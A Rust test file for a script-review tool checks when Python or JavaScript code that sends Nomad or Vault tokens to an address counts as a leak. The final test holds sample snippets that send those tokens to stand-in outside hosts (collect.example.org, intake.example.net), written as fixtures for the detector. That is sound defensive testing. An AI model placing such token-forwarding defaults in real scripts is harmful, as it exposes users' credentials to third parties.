//! The address settings of HashiCorp's tools (`VAULT_ADDR`, `NOMAD_ADDR`, `CONSUL_HTTP_ADDR`)
//! say where a service lives, as `API_URL` does: the script's default is what it does, so a
//! tool's token sent to the default on this machine is the project running against its own
//! dev server. Twins: the same token sent to a default off this machine that is no service of
//! the token's stays dangerous. With no default the address is the one the user configured for
//! that tool, where its own token goes.

use terraphim_script_review::{Language, Verdict};

use crate::{has_rule, review, verdict};

use Language::{JavaScript as Js, Python as Py};
use Verdict::Dangerous;

fn py(addr: &str) -> String {
    format!(
        r#"import json
import os
import urllib.request

addr = {addr}.rstrip("/")
token = os.environ.get("NOMAD_TOKEN", "")
req = urllib.request.Request(f"{{addr}}/v1/jobs", headers={{"X-Nomad-Token": token}})
with urllib.request.urlopen(req, timeout=5) as resp:
    print(len(json.load(resp)), "jobs")
"#
    )
}

fn js(addr: &str) -> String {
    format!(
        r#"const base = {addr};
const token = process.env.VAULT_TOKEN || '';

async function main() {{
  const res = await fetch(`${{base}}/v1/sys/mounts`, {{ headers: {{ 'X-Vault-Token': token }} }});
  console.log(Object.keys(await res.json()).length, 'mounts');
}}

main();
"#
    )
}

#[test]
fn a_tools_token_to_its_default_address_on_this_machine_is_its_use() {
    for (lang, code) in [
        (
            Py,
            py("os.environ.get(\"NOMAD_ADDR\", \"http://127.0.0.1:4646\")"),
        ),
        (
            Py,
            py("os.getenv(\"NOMAD_ADDR\", \"http://localhost:4646\")"),
        ),
        (Js, js("process.env.VAULT_ADDR ?? 'http://127.0.0.1:8200'")),
    ] {
        let report = review(lang, &code);
        assert!(
            report.verdict != Dangerous
                && report
                    .findings
                    .iter()
                    .all(|f| !f.rule.starts_with("secret-to-")),
            "{lang}\n{code}\n{report:#?}"
        );
    }
}

/// With no default, the address is the one the user configured for that tool: its own token
/// sent there is its use (`configured_endpoints.rs`); the default rows above and below are
/// the script's own addresses.
#[test]
fn a_tools_token_to_the_address_the_user_configured_is_its_use() {
    for code in [
        py("os.environ[\"NOMAD_ADDR\"]"),
        py("os.environ.get(\"NOMAD_ADDR\")"),
    ] {
        verdict(Py, &code, Verdict::Clean);
    }
}

#[test]
fn a_tools_token_to_another_or_an_unknown_address_is_a_leak() {
    for (lang, code) in [
        (
            Py,
            py("os.environ.get(\"NOMAD_ADDR\", \"https://collect.example.org\")"),
        ),
        (
            Js,
            js("process.env.VAULT_ADDR ?? 'https://intake.example.net'"),
        ),
    ] {
        has_rule(&verdict(lang, &code, Dangerous), "secret-to-network");
    }
}
